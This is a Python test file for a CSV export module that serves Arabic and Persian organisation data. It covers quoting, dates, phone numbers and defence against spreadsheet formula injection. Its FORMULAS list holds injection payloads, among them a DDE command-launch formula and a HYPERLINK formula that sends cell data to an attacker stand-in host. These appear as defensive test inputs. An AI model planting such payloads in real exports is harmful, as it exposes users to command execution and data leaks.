"""Prove that a CSV file is read back as it was meant, by spreadsheets too."""

from __future__ import annotations

import codecs
import csv
from datetime import UTC, date, datetime
from io import StringIO
from typing import Any

import pytest

from contracts.phones import e164
from contracts.registry.words import PHONE_TYPES
from services.gateway.api.examples.organizations import ORGANIZATION
from services.gateway.downloads.columns import COLUMNS, headings, rows
from services.gateway.downloads.delimited import safe, written
from services.gateway.downloads.words import Wording
from services.gateway.imports import values

FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1,"click")',
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    " =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\ufeff=1+1",
    "\u200f=1+1",
    "\u00a0=1+1",
    "\0=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "جمعية;=1+1",
    "جمعية; =1+1",
    "جمعية\n@SUM(1)",
    "جمعية\t-1",
)


def read(*table: list[Any]) -> list[list[str]]:
    """Return a table as it is read back, without its headings."""
    text = b"".join(written(["a"], table)).decode("utf-8-sig")
    return list(csv.reader(StringIO(text, newline="")))[1:]


def test_begins_with_byte_order_mark():
    assert b"".join(written(["الاسم"], [])) == codecs.BOM_UTF8 + "الاسم\r\n".encode()


def test_rows_end_as_rfc_4180_wants():
    assert b"".join(written(["a", "b"], [["x, y", 'he said "z"']])).endswith(b'\r\n"x, y","he said ""z"""\r\n')


@pytest.mark.parametrize("text", ["two\r\nlines", "one, two", 'in "quotes"', "", "قنا؛ قوص"])
def test_text_is_read_back(text: str):
    assert read([text, "next"]) == [[text, "next"]]


@pytest.mark.parametrize("text", FORMULAS)
def test_no_text_is_a_formula(text: str):
    guarded = safe(text)

    cells = [cell.lstrip(" \ufeff\u200f\u00a0\0") for cell in guarded.replace("\n", ";").replace("\t", ";").split(";")]
    assert not [cell for cell in cells if cell.startswith(tuple("=+-@＝＋－＠"))]
    assert not guarded.startswith(("\t", "\r", "\n"))


@pytest.mark.parametrize(
    "text", ["جمعية الإحسان", "2 + 2 = 4", "info@ehsan.example", "a-b; c", "https://a.example/?b=c"]
)
def test_other_text_stays(text: str):
    assert safe(text) == text


def test_numbers_stay_numbers():
    assert read([-26.164, 0, 120, None]) == [["-26.164", "0", "120", ""]]


def test_times_are_iso_8601():
    assert read([date(2026, 3, 1), datetime(2026, 11, 2, 8, 15, tzinfo=UTC)]) == [
        ["2026-03-01", "2026-11-02T08:15:00Z"]
    ]


def test_telephone_survives_readable():
    wording = Wording("ar", {})
    number = {"number": "+20965331234", "type": "cell"}

    (row,) = read(*rows([{**ORGANIZATION, "phones": [number]}], wording))

    phones = row[[column.key for column in COLUMNS].index("phones")]
    assert phones == "محمول +20965331234"
    assert e164(phones, "EG") == "+20965331234"


@pytest.mark.parametrize("language", ["ar", "fa", "en"])
@pytest.mark.parametrize("kind", PHONE_TYPES)
def test_short_telephone_survives(language, kind):
    written = Wording(language, {}).phone({"number": "15335", "type": kind})

    assert values.phone(written, "EG")["number"] == "15335"


def test_every_row_has_every_column():
    wording = Wording("fa", {})

    (row,) = read(*rows([ORGANIZATION], wording))

    assert len(row) == len(headings(wording)) == len(COLUMNS)
